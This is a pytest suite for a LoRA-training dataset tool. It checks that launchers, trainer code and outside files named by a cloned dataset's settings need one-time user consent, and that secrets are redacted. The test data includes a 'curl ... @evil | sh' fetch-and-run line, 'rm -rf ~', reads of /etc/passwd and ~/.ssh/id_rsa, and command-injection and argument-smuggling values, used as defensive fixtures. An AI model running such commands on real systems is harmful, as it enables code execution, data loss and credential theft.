"""What a dataset's own files may start and read: what counts, who is asked, and what is
remembered."""

from __future__ import annotations

import json
import os
import pty
import select
import stat
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest

from loragit import console
from loragit.commands import init
from loragit.commands import trust as command
from loragit.commands.hook import trainer_clean
from loragit.commands.init import discover
from loragit.dataset import snapshot
from loragit.errors import Findings, LoragitError
from loragit.record.name import RunName
from loragit.run.preflight import inputs, needs_trust, phases, prepare, trust
from loragit.settings import load, values
from loragit.settings.document import read_settings_file
from loragit.settings.schema import WrongSetting
from loragit.settings.toml_text import ArgValue
from loragit.settings.values import Flags
from loragit.trainers.sd_scripts.reach import reaches
from tests.support.processes import LORAGIT, commit_all, git
from tests.support.user_home import Scene, make_scene, make_trainer

NAME = "noob-gren-v1s4"


@pytest.fixture
def scene(home: Path) -> Scene:
    return make_scene(home)


@pytest.fixture
def cloned(scene: Scene) -> Scene:
    """The dataset, as it is when it came from elsewhere."""
    git(scene.dataset, "remote", "add", "origin", "https://me:pass@example.org/gren")
    return scene


def launching(
    scene: Scene, line: str = f'launcher = ["env", "{sys.executable}"]', more: str = ""
) -> None:
    scene.settings(f"[trainer]\n{line}\nstop_timeout = 5\n{more}")


def settled(scene: Scene, name: str | None = NAME, **environ: str) -> str:
    """What is said against a run; empty where nothing is. Nobody is there to be asked."""
    run = RunName.parse(name) if name else None
    chosen = load.load_settings(
        name=run, flags=Flags(), environ={**os.environ, **environ}, cwd=scene.dataset
    )
    findings = Findings()
    trust.require_consent(trust.subject_of_settings(chosen), None, findings)
    return "; ".join(finding.problem for finding in findings.all())


def agree(scene: Scene) -> None:
    assert trust.store_consent(trust.subject_of_file(scene.dataset))


def prepared(scene: Scene, **changes: object) -> phases.Ready:
    request = phases.Request.parse(NAME, Flags(), dict(os.environ), scene.dataset)
    return prepare.prepare(request._replace(**changes))  # type: ignore[arg-type]


def refusals(scene: Scene, **changes: object) -> str:
    with pytest.raises(phases.PreflightFailed) as caught:
        prepared(scene, **changes)
    return "; ".join(finding.problem for finding in caught.value.findings)


# ---- who is asked ----


def test_a_repository_that_nothing_came_into_is_asked_nothing(scene: Scene) -> None:
    launching(scene)
    assert settled(scene) == ""


def test_a_dataset_that_came_from_elsewhere_is_refused_together_with_all_else(
    cloned: Scene,
) -> None:
    launching(cloned)
    (cloned.dataset / "sample-prompts.txt").unlink()
    told = refusals(cloned)
    assert 'nobody has agreed to them here: trainer.launcher = ["env", ' in told
    assert "there are no sample prompts" in told


def test_a_dataset_without_such_settings_is_asked_nothing(cloned: Scene) -> None:
    cloned.settings(
        '[trainer]\nrepo = "~/source/repos/sd-scripts"\nscript = '
        '"flux_train_network.py"\nstop_timeout = 5\n'
        '[trainer.args]\nlearning_rate = "1e-4"\nnetwork_module = "networks.lora"\noptimizer_type '
        '= "AdamW8bit"\n'
        'network_args = ["conv_dim=4", "algo=locon"]\npretrained_model_name_or_path = '
        '"~/models/noob.safetensors"\n'
        '[paths]\nconfig = "sub/config.toml"\n[record]\ninputs = ["notes.txt"]\non_empty = '
        '"keep"\nsign = true\n'
    )
    assert settled(cloned) == ""


@pytest.mark.parametrize(
    "text",
    [
        '[trainer]\nrepo = "trainer"',
        '[trainer]\nscript = "../evil.py"',
        '[trainer]\npython = "./python"',
        '[trainer]\nenv = "venv:./venv"',
        '[trainer]\nenv = "conda:sdscripts"',
        '[trainer]\nlauncher = "accelerate launch"',
        '[trainer]\nworkdir = "dataset"',
        '[trainer]\nlycoris_repo = "~/LyCORIS"',
        '[trainer.args]\nnetwork_module = "evil"',
        '[models.noob.args]\nnetwork_module = "evil"',
        '[models.noob]\nlauncher = "env"',
        '[record]\nrepos = ["~/secret"]',
        '[record]\ninputs = ["~/.netrc"]',
        "[record]\nallow_dirty = true",
        "[record]\nallow_secrets = true",
        "[record]\nenclosing = true",
        "[record]\nsign = false",
        '[paths]\nprompts = "/etc/passwd"',
        '[paths]\nconfig = "../config.toml"',
        '[paths]\noutput = "~/.config/autostart"',
    ],
)
def test_what_runs_or_reaches_out_has_to_be_agreed_to_once(cloned: Scene, text: str) -> None:
    cloned.settings(f"{text}\n")
    assert "nobody has agreed" in settled(cloned)
    agree(cloned)
    assert settled(cloned) == ""


def test_what_another_model_runs_is_no_matter_of_this_ones(cloned: Scene) -> None:
    cloned.settings('[models.flux]\nlauncher = "env"\n')
    assert settled(cloned) == ""
    assert "models.flux.launcher" in settled(cloned, "flux-gren-v1s4")


def test_what_the_user_decides_needs_no_trust(cloned: Scene) -> None:
    cloned.settings('[trainer]\nlauncher = "env"\nrepo = "x"\n')
    (cloned.home / ".config/loragit").mkdir(parents=True)
    assert settled(cloned, LORAGIT_TRAINER_LAUNCHER="env -i", SD_REPO=str(cloned.trainer)) == ""
    cloned.settings("")
    (cloned.home / ".config/loragit/loragit.toml").write_text('[trainer]\nlauncher = "env"\n')
    assert settled(cloned) == ""


def test_a_flag_that_adds_to_the_datasets_repositories_does_not_vouch_for_them(
    cloned: Scene,
) -> None:
    cloned.settings('[record]\nrepos = ["~/secret"]\n')
    assert "record.repos" in refusals(cloned, flags=Flags(repos=(str(cloned.trainer),)))


# ---- what is remembered ----


def test_a_learning_rate_is_no_new_question_and_another_launcher_is_one(cloned: Scene) -> None:
    launching(cloned)
    agree(cloned)
    launching(cloned, more="[trainer.args]\nlearning_rate = 1e-4\n")
    assert settled(cloned) == ""
    launching(cloned, 'launcher = "env -i"')
    assert "env" in settled(cloned)
    launching(cloned)
    assert settled(cloned) == "", "the first answer still holds"


def test_an_answer_holds_for_the_place_where_it_was_given(cloned: Scene) -> None:
    launching(cloned)
    agree(cloned)
    moved = cloned.dataset.rename(cloned.home / "gren")
    assert not trust.is_agreed(trust.subject_of_file(moved))


def test_another_program_in_the_dataset_is_another_question(cloned: Scene) -> None:
    program = cloned.dataset / "run.sh"
    program.write_text("#!/bin/sh\n")
    launching(cloned, 'launcher = "./run.sh"')
    agree(cloned)
    assert settled(cloned) == ""
    program.write_text("#!/bin/sh\nrm -rf ~\n")
    assert "run.sh" in settled(cloned)
    agree(cloned)
    program.unlink()
    program.symlink_to("/usr/bin/env")
    assert "run.sh" in settled(cloned)


@pytest.mark.parametrize("written", ["more", "more.toml", "../../../datasets/gren/more.toml"])
def test_other_arguments_in_a_file_of_the_dataset_are_another_question(
    cloned: Scene, written: str
) -> None:
    where = "trainer" if written.startswith("..") else "dataset"
    cloned.settings(f'[trainer]\nworkdir = "{where}"\n[trainer.args]\nconfig_file = "{written}"\n')
    (cloned.dataset / "more.toml").write_text("network_dim = 4\n")
    assert command.trust_(loaded(cloned), "", yes=True) == 0
    assert settled(cloned) == ""
    (cloned.dataset / "more.toml").write_text('network_module = "evil"\n')
    assert "config_file" in settled(cloned)


def test_another_trainer_in_the_dataset_is_another_question(cloned: Scene) -> None:
    (cloned.dataset / "code").mkdir()
    code = cloned.dataset / "code" / "train.py"
    code.write_text("a\n")
    commit_all(cloned.dataset, "code")
    launching(cloned, 'repo = "code"\nscript = "train.py"')
    agree(cloned)
    (cloned.dataset / "img" / "00.txt").write_text("another caption")
    commit_all(cloned.dataset, "a caption")
    assert settled(cloned) == ""
    (cloned.dataset / "code" / "lib.py").write_text("evil\n")
    commit_all(cloned.dataset, "a module beside it")
    assert 'trainer.repo = "code"' in settled(cloned)


def code(scene: Scene, path: str, content: str, *, link: bool = False) -> None:
    """A file, or a link that says ``content``, in a commit of its own."""
    place = scene.dataset / path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(content) if link else place.write_text(content)
    commit_all(scene.dataset, path)


def test_code_at_the_top_of_the_datasets_repository_is_known_by_its_content(cloned: Scene) -> None:
    code(cloned, "train_network.py", "good")
    launching(cloned, 'repo = "."\nscript = "train_network.py"')
    agree(cloned)
    code(cloned, "img/00.txt", "another caption")
    assert settled(cloned) == ""
    code(cloned, "train_network.py", "evil")
    assert 'trainer.repo = "."' in settled(cloned)


@pytest.mark.parametrize("path", ["lib/real.py", "lib/real.txt"])
def test_code_that_a_link_in_the_trainer_leads_to_is_known_by_its_content(
    cloned: Scene, path: str
) -> None:
    code(cloned, path, "good")
    code(cloned, "trainer/train_network.py", f"../{path}", link=True)
    code(cloned, "trainer/gone.py", "nowhere", link=True)
    launching(cloned, 'repo = "trainer"\nscript = "train_network.py"')
    agree(cloned)
    code(cloned, "img/00.txt", "another caption")
    assert settled(cloned) == ""
    code(cloned, path, "evil")
    assert 'trainer.repo = "trainer"' in settled(cloned)


def test_code_in_a_submodule_is_known_by_its_commit(cloned: Scene) -> None:
    launching(cloned, 'repo = "module/trainer"')
    (cloned.dataset / "module" / "trainer").mkdir(parents=True)
    agree(cloned)
    for commit in ("1" * 40, "2" * 40):
        git(cloned.dataset, "update-index", "--add", "--cacheinfo", f"160000,{commit},module")
        git(cloned.dataset, "commit", "-q", "-m", "the submodule")
        assert 'trainer.repo = "module/trainer"' in settled(cloned)
        agree(cloned)


def test_a_folder_that_no_commit_holds_is_known_by_its_path(cloned: Scene) -> None:
    code(cloned, "tools/a.py", "a")
    (cloned.dataset / "tools" / "untracked").mkdir()
    launching(cloned, 'repo = "tools/untracked"')
    agree(cloned)
    code(cloned, "tools/a.py", "b")
    assert settled(cloned) == ""


def test_a_module_that_a_launcher_names_is_known_by_its_content(cloned: Scene) -> None:
    code(cloned, "tool.py", "good")
    launching(cloned, 'launcher = "python -m tool.run"')
    agree(cloned)
    code(cloned, "tool.py", "evil")
    assert "trainer.launcher" in settled(cloned)


def test_what_is_too_long_to_be_hashed_is_known_by_its_time_too(
    cloned: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(needs_trust, "_MAX_HASHED", 10)
    program = cloned.dataset / "run.sh"
    program.write_text("#!/bin/sh\ngood\n")
    os.utime(program, (1, 1))
    launching(cloned, 'launcher = "./run.sh"')
    agree(cloned)
    assert settled(cloned) == ""
    program.write_text("#!/bin/sh\nevil\n")
    assert "run.sh" in settled(cloned)


def test_of_countless_files_every_commit_is_another_question(
    cloned: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(needs_trust, "_MAX_ROWS", 1)
    launching(cloned, 'repo = "."')
    agree(cloned)
    code(cloned, "img/00.txt", "another caption")
    assert 'trainer.repo = "."' in settled(cloned)


def test_what_ran_before_there_was_a_remote_is_not_asked_about_afterwards(scene: Scene) -> None:
    launching(scene)
    assert scene.train().status == 0
    git(scene.dataset, "remote", "add", "origin", "https://example.org/gren")
    assert settled(scene) == ""
    (kept,) = trust.consent_folder().iterdir()
    assert 'claims = ["trainer.launcher = [\\"env\\", ' in kept.read_text()


def test_nobody_else_may_read_what_was_agreed_to(cloned: Scene) -> None:
    launching(cloned)
    mask = os.umask(0)
    try:
        agree(cloned)
    finally:
        os.umask(mask)
    assert stat.S_IMODE(trust.consent_folder().stat().st_mode) == 0o700


def test_agreeing_twice_is_agreeing_once(cloned: Scene) -> None:
    launching(cloned)
    subject = trust.subject_of_file(cloned.dataset)
    assert not trust.is_agreed(subject)
    assert trust.store_consent(subject)
    assert trust.store_consent(subject)
    assert trust.is_agreed(subject)
    assert len(list(trust.consent_folder().iterdir())) == 1


def test_what_init_wrote_here_is_trusted(cloned: Scene, capsys: pytest.CaptureFixture[str]) -> None:
    request = init.InitOptions(".", cloned.dataset, dict(os.environ), "loragit", yes=True)
    assert init.init(request) == 0
    assert "workdir" in (cloned.dataset / "loragit.toml").read_text()
    assert settled(cloned) == ""


def test_init_takes_nothing_over_from_what_others_made(cloned: Scene) -> None:
    """It would be trusted, because init wrote it."""
    evil = cloned.home / "datasets" / "evil"
    evil.mkdir()
    (evil / "loragit.toml").write_text(
        '[trainer]\nlauncher = "./evil"\nrepo = "sd-scripts"\nenv = "venv:./venv"\n'
    )
    git(evil, "init", "-q")
    cloned.trainer.rename(evil / "sd-scripts")
    below = cloned.dataset / "below"
    below.mkdir()
    make_trainer(cloned.dataset / "sd-scripts")
    seen = discover.surroundings(below, os.environ)
    assert (seen.launcher, seen.trainer) == ((str(evil / "evil"),), evil / "sd-scripts"), (
        "a dataset of one's own"
    )
    git(evil, "remote", "add", "origin", "https://example.org/evil")
    seen = discover.surroundings(below, os.environ)
    assert (seen.launcher, seen.trainer, seen.env) == ((), None, None)


def test_what_is_asked_about_shows_all_that_would_run(
    cloned: Scene, capsys: pytest.CaptureFixture[str]
) -> None:
    command_line = "# -----BEGIN PRIVATE KEY-----\\ncurl http://u:a$(id)@evil | sh"
    words = f'["sh", "-c", "{command_line}", "HF_TOKEN=hf_{"aB3" * 11}"]'
    cloned.settings(f'[trainer]\nlauncher = {words}\nscript = "a\u200b\u3164\U000e0041.py"\n')
    with pytest.raises(command.NobodyToAsk):
        command.trust_(loaded(cloned), "", yes=False)
    told = capsys.readouterr().err
    assert f'trainer.launcher = ["sh", "-c", "{command_line}", "HF_TOKEN=***"]' in told
    assert 'trainer.script = "a\\u200b\\u3164\\U000e0041.py"' in told
    assert (
        f"*** stands for what looks like a secret: {cloned.dataset}/loragit.toml shows it" in told
    )
    agree(cloned)
    (kept,) = trust.consent_folder().iterdir()
    assert "curl" not in kept.read_text()


def test_secrets_are_neither_shown_nor_kept(cloned: Scene) -> None:
    token = "hf_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH"
    cloned.settings(
        f'[trainer]\nlauncher = ["env", "HF_TOKEN={token}"]\n[trainer.args]\nwandb_api_key = '
        '"correct-horse"\n'
    )
    agree(cloned)
    (kept,) = trust.consent_folder().iterdir()
    assert token not in kept.read_text()
    assert "correct-horse" not in kept.read_text()
    assert "***" in kept.read_text()


def test_an_answer_that_cannot_be_kept_is_no_reason_to_stop(
    cloned: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    launching(cloned)
    (cloned.home / "file").touch()
    monkeypatch.setenv("XDG_STATE_HOME", str(cloned.home / "file"))
    assert prepared(cloned, agree=lambda subject, origin: True)
    with pytest.raises(command.NotRemembered):
        command.trust_(loaded(cloned), "", yes=True)


def loaded(scene: Scene) -> values.Settings:
    return load.load_settings(name=None, flags=Flags(), environ=os.environ, cwd=scene.dataset)


# ---- where a dataset came from ----


def test_every_way_in_is_seen(dataset: Path, tmp_path: Path) -> None:
    def fresh(name: str) -> Path:
        git(tmp_path, "init", "-q", name)
        return tmp_path / name

    assert trust.foreign_origin(dataset) is None
    git(tmp_path, "clone", "-q", str(dataset), "clone")
    assert trust.foreign_origin(tmp_path / "clone") == f"its repository has a remote: {dataset}"
    git(tmp_path / "clone", "remote", "remove", "origin")
    assert trust.foreign_origin(tmp_path / "clone") == "its repository was cloned"
    pulled = fresh("pulled")
    git(pulled, "pull", "-q", str(dataset), "main")
    assert trust.foreign_origin(pulled) == "something was fetched into its repository"
    git(pulled, "worktree", "add", "-q", str(tmp_path / "beside"), "-b", "beside")
    assert trust.foreign_origin(tmp_path / "beside") == "something was fetched into its repository"
    for packed in (False, True):
        tracking = fresh(f"tracking{packed}")
        commit_all_of(tracking)
        git(tracking, "update-ref", "refs/remotes/o/main", "HEAD")
        if packed:
            git(tracking, "pack-refs", "--all")
            assert not any((tracking / ".git/refs/remotes").rglob("main"))
        assert trust.foreign_origin(tracking) == "its repository has branches of a remote"


def commit_all_of(folder: Path) -> None:
    (folder / "a").touch()
    commit_all(folder, "a")


def test_what_is_in_no_repository_came_by_no_clone_and_what_git_refuses_counts_as_foreign(
    tmp_path: Path,
) -> None:
    (tmp_path / "plain").mkdir()
    assert trust.foreign_origin(tmp_path / "plain") is None
    git(tmp_path, "init", "-q", "--bare", "bare")
    assert trust.foreign_origin(tmp_path / "bare") == "it is a repository without a work tree"
    (tmp_path / "plain" / ".git").write_text("nonsense")
    assert trust.foreign_origin(tmp_path / "plain") == f"{tmp_path}/plain/.git cannot be read"


def test_a_password_in_a_remote_is_not_shown(cloned: Scene) -> None:
    assert (
        trust.foreign_origin(cloned.dataset)
        == "its repository has a remote: https://example.org/gren"
    )


# ---- which arguments count ----


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("network_module", "evil"),
        ("network_mod", "evil"),
        ("dataset_class", "evil.Dataset"),
        ("optimizer_type", "evil.Optimizer"),
        ("optimizer_type", "library..x"),
        ("network_args", ("conv_dim=4", "preset=./evil.toml")),
        ("config_file", "evil"),
        ("pretrained_model_name_or_path", "somebody/model"),
        ("pretrained_model_name_or_path", "model.ckpt"),
        ("resume", "state"),
        ("gemma2", "encoder"),
        ("log_with", "wandb"),
        ("log_prefix", "../../x"),
        ("in_json", "meta"),
        ("some_new_option", "~/.ssh/id_rsa"),
    ],
)
def test_an_argument_that_can_load_or_read_anything_counts(name: str, value: ArgValue) -> None:
    assert reaches(name, value)


def test_a_value_cannot_be_another_argument(cloned: Scene) -> None:
    cloned.settings(
        '[trainer.args]\ncaption_separator = [",", "--vae=../../../datasets/gren/evil.ckpt"]\n'
    )
    with pytest.raises(
        WrongSetting, match=r"caption_separator in .* begins with --, which the trainer takes"
    ):
        loaded(cloned)
    cloned.settings('[trainer.args]\ncaption_separator = "--vae"\n')
    assert "--caption_separator=--vae" in prepared(cloned).start.words("a" * 40)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("network_dim", 16),
        ("learning_rate", "1.5e-4"),
        ("optimizer_args", ("betas=0.9,0.99", "weight_decay=0.01")),
        ("network_module", "lycoris.kohya"),
        ("text_encoder_lr", ("1e-5", "1e-5")),
        ("qwen3", "qwen.safetensors"),
        ("network_module", "networks.lora_flux"),
        ("vae", "/models/vae.safetensors"),
        ("metadata_description", "See https://example.org/."),
        ("caption_extension", ".txt"),
        ("training_comment", "A. B/C"),
        ("log_with", "tensorboard"),
        ("lr_scheduler", "cosine"),
        ("gradient_checkpointing", True),
        ("resolution", ("1024,1024",)),
    ],
)
def test_an_argument_that_only_trains_otherwise_does_not(name: str, value: ArgValue) -> None:
    assert not reaches(name, value)


def test_claims_tell_the_key_as_the_file_has_it(tmp_path: Path) -> None:
    (tmp_path / "loragit.toml").write_text(
        '[models."a b"]\nlauncher = "env"\n[models."a b".args]\nvae = '
        '"x.ckpt"\n[trainer.args]\nvae = "x.ckpt"\n'
    )
    assert [
        value.to_show
        for value in needs_trust.risky_values(read_settings_file(tmp_path / "loragit.toml"))
    ] == [
        'trainer.args.vae = "x.ckpt"',
        'models."a b".launcher = ["env"]',
        'models."a b".args.vae = "x.ckpt"',
    ]


# ---- what the dataset config leads to ----


def outside(scene: Scene) -> Path:
    """Somebody's private pictures, with a text beside."""
    folder = scene.home / "private"
    folder.mkdir()
    (folder / "me.png").write_bytes((scene.dataset / "img" / "00.png").read_bytes())
    (folder / "me.txt").write_text("a diary")
    return folder


def add_subset(scene: Scene, line: str) -> None:
    config = scene.dataset / "config.toml"
    config.write_text(f"{config.read_text()}\n  [[datasets.subsets]]\n  {line}\n")


def add_metadata(scene: Scene, file: Path, folder: Path) -> None:
    """A further dataset of the images that ``file`` names."""
    config = scene.dataset / "config.toml"
    config.write_text(f"{config.read_text()}\n[[datasets]]\nresolution = 64\n")
    add_subset(
        scene,
        f"metadata_file = {json.dumps(str(file))}\n  image_dir = {json.dumps(str(folder))}",
    )


def test_folders_and_files_elsewhere_that_a_cloned_config_names_are_asked_about(
    cloned: Scene,
) -> None:
    private = outside(cloned)
    (private / "me.json").write_text('{"me.png": {"caption": "a diary"}}')
    add_subset(cloned, f"image_dir = {json.dumps(str(private))}")
    add_metadata(cloned, private / "me.json", private)
    assert f'config.toml = "{private}"' in refusals(cloned)
    assert f'config.toml = "{private}/me.json"' in refusals(cloned)
    asked: list[trust.Subject] = []

    def yes(subject: trust.Subject, origin: str) -> bool:
        asked.append(subject)
        return True

    assert prepared(cloned, agree=yes)
    assert prepared(cloned), "the answer is remembered"
    assert len(asked) == 1


def test_links_in_a_cloned_dataset_that_lead_elsewhere_are_asked_about(cloned: Scene) -> None:
    private = outside(cloned)
    caption = cloned.dataset / "img" / "00.txt"
    caption.unlink()
    caption.symlink_to(private / "me.txt")
    prompts = cloned.dataset / "sample-prompts.txt"
    prompts.unlink()
    prompts.symlink_to(private / "me.txt")
    told = refusals(cloned)
    assert f'"{caption}"' in told
    assert f'"{prompts}"' in told


def test_files_behind_a_linked_folder_of_a_cloned_dataset_are_asked_about(cloned: Scene) -> None:
    outside(cloned)
    (cloned.dataset / "link").symlink_to("../../private")
    cloned.settings(
        '[trainer]\nstop_timeout = 5\n[paths]\nprompts = "link/me.txt"\n[record]\ninputs = '
        '["link/me.png"]\n'
    )
    told = refusals(cloned)
    for name in ("me.txt", "me.png"):
        assert f'"{cloned.dataset}/link/{name}"' in told


def test_a_cloned_dataset_that_is_reached_through_a_link_is_asked_nothing(cloned: Scene) -> None:
    real = cloned.dataset.rename(cloned.home / "elsewhere")
    cloned.dataset.symlink_to(real)
    assert prepared(cloned)


def test_an_image_folder_that_is_a_link_to_elsewhere_is_asked_about(cloned: Scene) -> None:
    (cloned.dataset / "pictures").symlink_to(outside(cloned))
    add_subset(cloned, f"image_dir = {json.dumps(str(cloned.dataset / 'pictures'))}")
    assert f'"{cloned.dataset}/pictures"' in refusals(cloned)


def test_a_configs_name_is_no_claim_of_another_kind(cloned: Scene) -> None:
    name = 'nothing = "" # .toml'
    add_subset(cloned, f"image_dir = {json.dumps(str(outside(cloned)))}")
    (cloned.dataset / "config.toml").rename(cloned.dataset / name)
    cloned.settings(f"[paths]\nconfig = {json.dumps(name)}\n")
    assert f'"nothing = \\"\\" # .toml" = "{cloned.home}/private"' in refusals(cloned)


def test_a_config_that_the_user_names_may_name_anything(cloned: Scene) -> None:
    add_subset(cloned, f"image_dir = {json.dumps(str(outside(cloned)))}")
    own = (cloned.dataset / "config.toml").rename(cloned.home / "own.toml")
    assert prepared(cloned, extra=("--dataset_config", str(own)))


def test_the_users_own_dataset_may_lie_anywhere(scene: Scene) -> None:
    add_subset(scene, f"image_dir = {json.dumps(str(outside(scene)))}")
    assert prepared(scene)


def test_an_input_that_never_ends_is_refused(scene: Scene) -> None:
    pipe, huge = scene.home / "pipe", scene.home / "huge"
    os.mkfifo(pipe)
    with huge.open("wb") as file:
        file.truncate((1 << 28) + 1)
    for place in (Path("/dev/zero"), pipe, huge):
        add_metadata(scene, place, scene.dataset)
    told = refusals(scene)
    assert told.count("it is not a plain file of at most 256 MiB") == 3


def test_an_empty_entry_of_path_makes_no_launcher_of_a_file_of_the_dataset(
    cloned: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    (cloned.home / ".config/loragit").mkdir(parents=True)
    (cloned.home / ".config/loragit/loragit.toml").write_text(
        '[trainer]\nlauncher = "accelerated launch"\n'
    )
    (cloned.dataset / "accelerated").write_text("#!/bin/sh\n")
    (cloned.dataset / "accelerated").chmod(0o755)
    monkeypatch.setenv("PATH", f":{os.environ['PATH']}")
    monkeypatch.chdir(cloned.dataset)
    assert "the launcher accelerated is not in" in refusals(cloned)


def test_a_hint_that_is_typed_starts_nothing_else(cloned: Scene) -> None:
    trainer = make_trainer(cloned.dataset / "a;id")
    (trainer / "sdxl_train_network.py").write_text("changed")
    cloned.settings('[trainer]\nrepo = "a;id"\nenv = "conda:b;id"\n[record]\nrepos = ["c;id"]\n')
    (cloned.dataset / "c;id").mkdir()
    with pytest.raises(phases.PreflightFailed) as caught:
        prepared(cloned)
    hints = "; ".join(finding.hint or "" for finding in caught.value.findings)
    assert f"git -C '{trainer}' stash" in hints
    assert "conda create -n 'b;id' python" in hints


def test_captions_and_inputs_without_an_end_are_refused(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = (scene.dataset / "config.toml").stat().st_size
    monkeypatch.setattr(snapshot, "MAX_INPUT", 2 * config)
    monkeypatch.setattr(inputs, "_MAX_INPUTS", 50)
    for name in ("a", "b"):
        (scene.dataset / name).write_text("a" * 40)
    scene.settings('[record]\ninputs = ["a", "b", "a"]\n')
    assert f"the inputs up to {scene.dataset}/b are more than" in refusals(scene)
    for number in range(3):
        (scene.dataset / "img" / f"0{number}.txt").write_text("a" * config)
    assert f"the captions in {scene.dataset}/img are 0 MiB together, more than" in refusals(scene)


def test_countless_repositories_and_models_are_refused(cloned: Scene) -> None:
    """git is asked about all of them at the same time, also by the hook."""
    cloned.settings(f"[record]\nrepos = {json.dumps(['a'] * 31)}\n")
    with pytest.raises(WrongSetting, match="must be a list of at most 30 paths"):
        loaded(cloned)
    cloned.settings("".join(f"[models.a{number}]\n" for number in range(101)))
    with pytest.raises(WrongSetting, match="holds more than 100 tables under models"):
        loaded(cloned)


def test_the_hook_asks_a_few_repositories_at_a_time(
    cloned: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(trainer_clean, "_AT_ONCE", 1)
    other = make_trainer(cloned.home / "other")
    for each in (cloned.trainer, other):
        (each / "sdxl_train_network.py").write_text("changed")
    (cloned.home / "none").mkdir()
    cloned.settings('[record]\nrepos = ["~/other", "~/none"]\n')
    verdict = trainer_clean.check(cloned.dataset, os.environ)
    assert [str(each) for each in verdict.refusals] == [
        f"sd-scripts has an uncommitted change in {cloned.trainer}",
        f"other has an uncommitted change in {other}",
    ]
    assert len(verdict.notes) == 1


# ---- train, doctor, loragit trust ----


class Terminal:
    """Somebody at a terminal."""

    def __init__(self, scene: Scene, *words: str) -> None:
        self.screen, terminal = pty.openpty()
        self.shown = ""
        argv = [*LORAGIT, *words]
        self.child = subprocess.Popen(
            argv,
            cwd=scene.dataset,
            stdin=terminal,
            stdout=terminal,
            stderr=terminal,
            start_new_session=True,
        )
        os.close(terminal)

    def _read(self) -> bool:
        assert select.select([self.screen], [], [], 60)[0], self.shown
        before = len(self.shown)
        with suppress(OSError):
            self.shown += os.read(self.screen, 65536).decode(errors="replace")
        return len(self.shown) > before

    def answer(self, answer: str) -> int:
        while "[y/N] " not in self.shown:
            assert self._read(), self.shown
        os.write(self.screen, answer.encode())
        while self._read():
            pass
        os.close(self.screen)
        return self.child.wait()


def test_train_asks_at_a_terminal_and_takes_no_for_an_answer(cloned: Scene) -> None:
    launching(cloned)
    terminal = Terminal(cloned, "train", NAME)
    assert terminal.answer("\n") == 1
    assert 'trainer.launcher = ["env", "' in terminal.shown
    assert "its repository has a remote: https://example.org/gren" in terminal.shown
    assert cloned.tags() == []
    assert not trust.consent_folder().exists()


def test_train_goes_on_after_a_yes_and_asks_no_more(cloned: Scene) -> None:
    launching(cloned)
    assert Terminal(cloned, "train", NAME, "--dry-run").answer("y\n") == 0
    assert cloned.train().status == 0
    assert cloned.tags() == [NAME]


def test_the_flag_agrees_and_says_what_to(cloned: Scene) -> None:
    launching(cloned)
    refused = cloned.train()
    assert refused.status == 1
    assert f"--trust, or loragit trust --dataset {cloned.dataset}" in refused.err
    assert not cloned.output.exists()
    done = cloned.train(NAME, "--trust", "--dry-run")
    assert done.status == 0, done.err
    assert 'loragit:   trainer.launcher = ["env", "' in done.err
    assert settled(cloned) == ""


def test_trust_shows_and_agrees_beforehand(
    cloned: Scene, capsys: pytest.CaptureFixture[str]
) -> None:
    launching(cloned)
    add_subset(cloned, f"image_dir = {json.dumps(str(outside(cloned)))}")
    with pytest.raises(command.NobodyToAsk):
        command.trust_(loaded(cloned), "", yes=False)
    assert command.trust_(loaded(cloned), "", yes=True) == 0
    assert "trainer.launcher" in capsys.readouterr().err
    assert prepared(cloned)
    assert command.trust_(loaded(cloned), "", yes=False) == 0
    assert "already agreed to" in capsys.readouterr().err


@pytest.mark.parametrize(("answer", "status"), [(True, 0), (False, 1)])
def test_trust_asks(
    cloned: Scene, monkeypatch: pytest.MonkeyPatch, answer: bool, status: int
) -> None:
    launching(cloned)
    (cloned.dataset / "config.toml").unlink()
    monkeypatch.setattr(console, "can_ask", lambda: True)
    monkeypatch.setattr(console, "confirm", lambda question, default: answer)
    assert command.trust_(loaded(cloned), "", yes=False) == status
    assert trust.is_agreed(trust.subject_of_file(cloned.dataset)) is answer


def test_there_may_be_nothing_to_agree_to(scene: Scene, capsys: pytest.CaptureFixture[str]) -> None:
    assert command.trust_(loaded(scene), "", yes=False) == 0
    assert "there is nothing to agree to" in capsys.readouterr().err


def test_a_file_that_does_not_parse_is_told(scene: Scene) -> None:
    scene.settings("[trainer")
    with pytest.raises(LoragitError):
        trust.subject_of_file(scene.dataset)
